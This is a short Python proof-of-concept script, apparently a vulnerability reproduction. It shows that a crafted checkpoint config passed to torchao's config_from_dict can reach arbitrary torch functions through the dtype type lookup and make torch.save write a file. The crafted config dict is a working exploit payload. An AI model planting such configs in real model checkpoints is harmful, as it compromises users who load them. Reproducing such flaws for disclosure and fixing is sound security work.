"""A checkpoint's config.json calls functions."""

import subprocess
import sys
import tempfile

ATTACK = """
from pathlib import Path
from torchao.core.config import config_from_dict

dtype = lambda name: {"_type": "torch.dtype", "_data": name}
arguments = {"model": [1], "filter_fn": dtype("broadcast_shapes"), "cur_fqn": [1, 1]}
arguments |= {"replacement_fn": dtype("save"), "extra_args": ["written"]}
config_from_dict({"_type": "_replace_with_custom_fn_if_matches_filter", "_data": arguments})
assert Path("written").exists()  # torch.save wrote it
"""
with tempfile.TemporaryDirectory() as folder:
    subprocess.run([sys.executable, "-c", ATTACK], check=True, capture_output=True, cwd=folder)
